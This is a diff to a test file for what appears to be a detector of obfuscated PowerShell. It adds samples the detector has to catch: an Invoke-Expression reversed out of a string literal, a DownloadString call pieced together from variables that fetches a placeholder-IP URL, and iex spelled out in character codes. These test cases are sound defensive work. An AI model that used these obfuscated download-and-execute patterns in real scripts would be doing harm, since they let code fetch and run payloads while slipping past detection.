@@ -91,6 +91,39 @@ def test_array_reverse_of_the_characters_of_another_variable() -> None:
         assert CRADLE in [text for _, _, text in found]
 
 
+def test_reversed_literal_in_parentheses() -> None:
+    assert summary("Invoke-Expression ((\"llehsrewop\")[-1..-10] -join '')") == [
+        ("1", "ps_reverse", "powershell")
+    ]
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "$a = 'Down'; $b = 'loadString'; $wc.($a+$b)('http://198.51.100.7/x')",
+        "$a = 'Down'; $wc.($a + 'loadString')('http://198.51.100.7/x')",
+        '$p1 = "Downlo"; $p2 = "adStr"; $wc.($p1 + $p2 + "ing")($u)',
+    ],
+)
+def test_variables_holding_pieces_of_a_word(line: str) -> None:
+    assert ("ps_concat", "DownloadString") in [(e, t) for _, e, t in summary(line)]
+
+
+@pytest.mark.parametrize(
+    ("line", "word"),
+    [
+        (
+            "& (" + "+".join(f"[char](0x{ord(c):x})" for c in "Invoke-Expression") + ") $x",
+            "Invoke-Expression",
+        ),
+        ("& (" + "+".join(f"[char]0x{ord(c):X}" for c in "iex") + ") $x", "iex"),
+        ("& (" + "+".join(f"[char]({ord(c)})" for c in "iex") + ") $x", "iex"),
+    ],
+)
+def test_char_codes_in_hex_and_in_parentheses(line: str, word: str) -> None:
+    assert ("ps_concat", word) in [(e, t) for _, e, t in summary(line)]
+
+
 def test_regex_right_to_left() -> None:
     reversed_cradle = CRADLE[::-1].replace("'", "''")
     line = (
@@ -262,6 +295,9 @@ HARMLESS = [
     "$s = 'hello'.Replace('l', 'L')",
     "$last = $items[-1..-3]",
     "[array]::Reverse($list)",
+    "$base = 'https://api.example.com'; $url = $base + '/v1/items'",
+    "$dir = 'C:\\Temp'; $full = $dir + '\\report.txt'",
+    "$first = 'John'; $name = $first + ' ' + $last",
     "$b = $name.ToCharArray(); [array]::Reverse($b)",  # $name is not a literal here
     "$mask = $value -bxor 0xFF",
     "iex 'Get-Date'",
